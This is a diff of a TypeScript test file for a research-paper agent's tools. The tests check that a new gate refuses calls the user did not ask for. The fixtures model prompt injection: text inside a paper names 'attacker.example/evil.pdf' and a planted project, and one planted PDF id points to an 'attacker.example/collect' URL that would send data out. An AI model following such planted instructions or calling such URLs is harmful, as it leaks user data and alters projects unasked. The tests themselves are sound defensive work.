@@ -2,26 +2,40 @@ import { describe, expect, it } from 'vitest';
 import { FakeFullTextReader, FakePaperLibrary } from '../../test/fakes/agent-service-fakes.js';
 import { PromptFence } from '../text/fence.js';
 import { createAgentTools, prepareToolCall, type ToolContext } from './agent-tools.js';
+import { DocumentProvenance } from './document-provenance.js';
 import { SourceLedger } from './source-ledger.js';
+import { ToolGate } from './tool-gate.js';
 
-function context(): ToolContext {
+/** A tool context whose gate reads `userMessage` as the user's (only) message. */
+function context(userMessage = 'What does PROJ:gpt/doc say?'): ToolContext {
+  const ledger = new SourceLedger();
+  const provenance = new DocumentProvenance({ messages: [{ role: 'user', content: userMessage }], ledger });
   return {
     tenantId: 'tenant-a',
     signal: new AbortController().signal,
-    ledger: new SourceLedger(),
+    ledger,
     fence: new PromptFence('0123456789ab'),
     timeoutMs: 5_000,
+    gate: new ToolGate({ provenance, userMessage }),
   };
 }
 
-async function call(library: FakePaperLibrary, args: Record<string, string>): Promise<string> {
+/** The user asks to add every paper these tests add. */
+const addRequest =
+  'Please add DOI:10.1000/xyz and https://example.org/a.pdf and https://example.org/other.pdf to my reading project.';
+
+async function call(
+  library: FakePaperLibrary,
+  args: Record<string, string>,
+  userMessage = addRequest,
+): Promise<string> {
   const tools = createAgentTools({ library });
   const prepared = prepareToolCall(tools, {
     id: 'call_1',
     name: 'add_to_project',
     arguments: JSON.stringify(args),
   });
-  return prepared.execute(context());
+  return prepared.execute(context(userMessage));
 }
 
 describe('the agent add_to_project tool', () => {
@@ -49,6 +63,23 @@ describe('the agent add_to_project tool', () => {
     ]);
     expect(await call(library, {})).toBe('Error: add_to_project failed: Give paper_id or pdf_url');
   });
+
+  it('adds nothing when the user did not ask to save papers, or the paper is not one the run was given (issue 4)', async () => {
+    const library = new FakePaperLibrary();
+    expect(
+      await call(library, { paper_id: 'DOI:10.1000/xyz' }, 'What does DOI:10.1000/xyz say about zebrafish?'),
+    ).toMatch(/^Refused: this tool changes the user's projects/);
+    // Asked to add, but not this paper: a paper's text named it, not the user.
+    expect(await call(library, { pdf_url: 'https://attacker.example/evil.pdf' })).toMatch(
+      /^Refused: you may read or add only documents/,
+    );
+    expect(await call(library, { paper_id: 'DOI:10.1000/other' })).toMatch(/^Refused:/);
+    // Asked to add, but into a project the user did not name.
+    expect(await call(library, { paper_id: 'DOI:10.1000/xyz', project_name: 'Planted' })).toMatch(
+      /^Refused: the user did not name that project/,
+    );
+    expect(library.calls).toEqual([]);
+  });
 });
 
 describe('the agent ask_pdf tool', () => {
@@ -74,5 +105,38 @@ describe('the agent ask_pdf tool', () => {
       'which antibiotic did the evolved strains resist?',
     ]);
     expect(await ask('compact', 'What is the main finding?')).toEqual(['What is the main finding?']);
+  });
+});
+
+describe('the log of tool calls', () => {
+  it('logs every call with its arguments (cut) and the decision: allowed, refused, invalid', async () => {
+    const lines: Array<{ level: string; object: { tool: Record<string, string> } }> = [];
+    const log = {
+      info: (object: object) => lines.push({ level: 'info', object: object as never }),
+      warn: (object: object) => lines.push({ level: 'warn', object: object as never }),
+    };
+    const fullText = new FakeFullTextReader({ 'PROJ:gpt/doc': ['first chunk'] });
+    const tools = createAgentTools({ fullText });
+    const run = (args: unknown, name = 'ask_pdf') =>
+      prepareToolCall(tools, { id: 'c', name, arguments: JSON.stringify(args) }).execute({
+        ...context(),
+        log,
+      });
+    await run({ pdf_id: 'PROJ:gpt/doc', question: 'What?' });
+    const planted = `PDF_URL:https://attacker.example/collect?q=${'x'.repeat(1500)}`;
+    expect(await run({ pdf_id: planted, question: 'What?' })).toMatch(/^Refused:/);
+    await run({}, 'delete_everything');
+    expect(fullText.calls).toHaveLength(1);
+    expect(lines.map((line) => [line.level, line.object.tool.name, line.object.tool.decision])).toEqual([
+      ['info', 'ask_pdf', 'allowed'],
+      ['warn', 'ask_pdf', 'refused'],
+      ['info', 'delete_everything', 'invalid'],
+    ]);
+    const refused = lines[1]?.object.tool;
+    expect(refused?.arguments).toContain('attacker.example/collect?q=xxx');
+    expect(refused?.arguments?.length).toBeLessThanOrEqual(500);
+    expect(refused?.reason).toMatch(
+      /^document not given by the user or found by the run: PDF_URL:https:\/\/attacker/,
+    );
   });
 });
